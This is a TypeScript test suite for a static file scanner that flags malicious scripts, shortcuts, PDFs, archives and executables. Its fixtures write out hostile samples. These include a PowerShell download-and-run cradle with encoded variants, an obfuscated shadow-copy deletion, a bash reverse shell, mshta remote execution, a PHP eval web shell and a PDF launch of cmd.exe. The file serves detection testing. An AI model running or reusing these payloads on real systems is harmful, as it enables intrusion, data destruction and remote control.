import { readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { codesOf, entropyOf } from "./bytes.ts";
import { examineFile } from "./examine.ts";
import { elfWith, lnkWith, peWith, zipWith } from "./seeded-files.test.ts";

const text = (value: string): Uint8Array => new TextEncoder().encode(value);
const wide = (value: string): string => Buffer.from(value, "utf16le").toString("base64");
const ids = (name: string, bytes: Uint8Array): readonly string[] => examineFile(name, bytes).signs.map(({ id }) => id);
const HIDDEN = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')";

describe("kinds by content", () => {
  it.each<readonly [string, string, Uint8Array]>([
    ["empty", "a.exe", new Uint8Array(0)],
    ["pe", "a.txt", peWith({})],
    ["elf", "a", elfWith({})],
    ["zip", "a.docx", zipWith([["x.txt", text("x")]])],
    ["lnk", "a.lnk", lnkWith("C:\\a.exe", "")],
    ["pdf", "a", text("%PDF-1.7\n")],
    ["script", "a", text("#!/usr/bin/env bash\necho hi\n")],
    ["script", "a.ps1", text("Get-Date")],
    ["html", "a", text("<!DOCTYPE html><html></html>")],
    ["text", "a.log", text("one line")],
    ["data", "a", Uint8Array.of(1, 2, 0, 4, 0)],
  ])("%s", (kind, name, bytes) => expect(examineFile(name, bytes).kind).toBe(kind));
});

describe("signs: what must be seen, and what looks like it", () => {
  it.each<readonly [string, string, Uint8Array, string]>([
    ["download and run", "a.ps1", text(HIDDEN), "script-download-and-run"],
    ["encoded, in a batch file", "a.bat", text(`powershell -nop -w hidden -enc ${wide(HIDDEN)}`), "script-layers"],
    [
      "gzip in base64",
      "a.ps1",
      text(`$s='${gzipSync(HIDDEN.repeat(2)).toString("base64")}'`),
      "script-download-and-run",
    ],
    [
      "character codes",
      "a.vbs",
      text(`x = ${Array.from("vssadmin delete shadows /all", (mark) => `Chr(${mark.charCodeAt(0)})`).join(" & ")}`),
      "script-destroys-recovery",
    ],
    ["joined pieces", "a.ps1", text(`"vssa"+"dmin del"+"ete shad"+"ows /all"`), "script-destroys-recovery"],
    ["bash reverse shell", "a.sh", text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), "script-reverse-shell"],
    ["mshta", "a.cmd", text("start mshta http://192.0.2.1/x.hta"), "script-proxy-execution"],
    ["php shell", "a.php", text("<?php @eval($_POST['c']); ?>"), "script-evaluates-packed"],
    ["pdf that launches", "a.pdf", text("%PDF-1.4\n<</S /L#61unch /F (cmd.exe)>>"), "pdf-launch"],
    ["shortcut", "a.lnk", lnkWith("C:\\Windows\\System32\\cmd.exe", "/c mshta http://192.0.2.1/a"), "lnk-interpreter"],
    ["double ending", "a.zip", zipWith([["invoice.pdf.exe", peWith({})]]), "archive-double-extension"],
    ["escape", "a.zip", zipWith([["../../etc/cron.d/x", text("x")]]), "archive-path-escape"],
    ["name lies", "holiday.jpg", peWith({}), "name-lies"],
    [
      "injection",
      "a.exe",
      peWith({ imports: ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"] }),
      "pe-injection-imports",
    ],
    ["interpreter in /tmp", "a", elfWith({ interpreter: "/tmp/.x/ld.so" }), "elf-strange-interpreter"],
    [
      "remote template",
      "a.docx",
      zipWith([
        ["[Content_Types].xml", text("x")],
        [
          "word/_rels/settings.xml.rels",
          text(
            '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>',
          ),
        ],
      ]),
      "office-remote-template",
    ],
  ])("%s", (_name, name, bytes, id) => expect(ids(name, bytes)).toContain(id));

  it.each<readonly [string, string, Uint8Array]>([
    ["a manual that names tools", "a.sh", text("# vssadmin lists shadows; never run mshta or certutil\necho ok")],
    ["shadows listed", "a.bat", text("vssadmin list shadows")],
    ["download to a file", "a.ps1", text("Invoke-WebRequest https://example.org/a.zip -OutFile a.zip")],
    ["a picture in base64", "a.js", text(`const icon="${Buffer.alloc(600, 7).toString("base64")}"`)],
    ["an ordinary shortcut", "a.lnk", lnkWith("C:\\Program Files\\App\\app.exe", "--profile work")],
    [
      "hyperlinks in a document",
      "a.docx",
      zipWith([
        ["[Content_Types].xml", text("x")],
        [
          "word/_rels/document.xml.rels",
          text('<Relationship Id="r" Type="http://x/hyperlink" Target="http://example.org/" TargetMode="External"/>'),
        ],
      ]),
    ],
    ["a plain program", "a.exe", peWith({ imports: ["GetTickCount", "ExitProcess"] })],
    ["a plain ELF", "a", elfWith({ interpreter: "/lib64/ld-linux-x86-64.so.2" })],
    ["script by pdf only", "a.pdf", text("%PDF-1.4\n/JavaScript (app.alert(1))")],
  ])("not: %s", (_name, name, bytes) => expect(ids(name, bytes)).toEqual([]));
});

describe("verdict", () => {
  it("adds up, names points and places, and says unknown", () => {
    const bad = examineFile("a.bat", text(`powershell -nop -w hidden -enc ${wide(HIDDEN)}`));
    expect(bad.verdict.verdict).toBe("malicious");
    expect(bad.verdict.score).toBe(bad.verdict.reasons.reduce((sum, { points }) => sum + points, 0));
    expect(bad.verdict.reasons[0]?.offset).toBeGreaterThan(0);
    expect(examineFile("a", Uint8Array.of(1, 2, 0, 4, 0)).verdict.verdict).toBe("unknown");
    expect(examineFile("a.txt", text("hello")).verdict).toEqual({ verdict: "unremarkable", score: 0, reasons: [] });
  });

  it("takes reputation and rules, one per family, also inside archives", () => {
    const known = {
      reputation: (bytes: Uint8Array) => (bytes.length === 3 ? [{ feed: "own", confidence: 90, label: "X" }] : []),
      rules: (bytes: Uint8Array) =>
        bytes.length === 3
          ? [10, 30].map((score) => ({
              rule: `r${score}`,
              family: "f",
              score,
              strings: [{ id: "$a", offset: 1, length: 2 }],
            }))
          : [],
    };
    const { verdict } = examineFile("a.zip", zipWith([["in/x.bin", text("abc")]]), known);
    expect(verdict).toMatchObject({ verdict: "malicious", score: 120 });
    expect(verdict.reasons[1]).toMatchObject({ text: "rule r30", within: "in/x.bin", offset: 1 });
  });
});

describe("hostile bytes", () => {
  const seeds = [
    peWith({ imports: ["A"] }),
    elfWith({}),
    lnkWith("a", "b"),
    zipWith([["a.txt", text("a")]]),
    text("%PDF-1.4 /ObjStm stream\n"),
    new Uint8Array(gzipSync("abc")),
    Uint8Array.from(codesOf("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0")),
    Uint8Array.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]),
  ];
  it("never throw, and never end in a failure of ours (property)", () => {
    const change = fc.array(fc.tuple(fc.nat(2_000), fc.nat(255)), { maxLength: 30 });
    fc.assert(
      fc.property(fc.constantFrom(...seeds), change, fc.nat(2_000), (seed, changes, cut) => {
        const bytes = seed.slice(0, Math.max(8, seed.length - (cut % seed.length)));
        for (const [at, value] of changes) if (at > 7 && at < bytes.length) bytes[at] = value;
        const { verdict } = examineFile("a.bin", bytes);
        expect(verdict.reasons.filter(({ text: reason }) => reason.startsWith("read as"))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it("names a bomb and does not open it", () => {
    const bomb = zipWith([["a.txt", text("x")]]);
    const view = new DataView(bomb.buffer);
    const at = bomb.length - 22 - 46 - 5;
    view.setUint32(at + 24, 2 ** 31, true);
    const seen = examineFile("a.zip", bomb);
    expect(seen.signs.map(({ id }) => id)).toEqual(["archive-bomb"]);
    expect(seen.limits).toEqual(["a.txt: not opened"]);
  });

  it("agrees with itself on the running program: an ELF file of many parts", () => {
    const bytes = readFileSync(process.execPath).subarray(0, 200_000);
    expect(examineFile("node", bytes).kind).toMatch(/elf|macho|pe/);
    expect(entropyOf(Uint8Array.from({ length: 256 }, (_, at) => at))).toBe(8);
  });
});
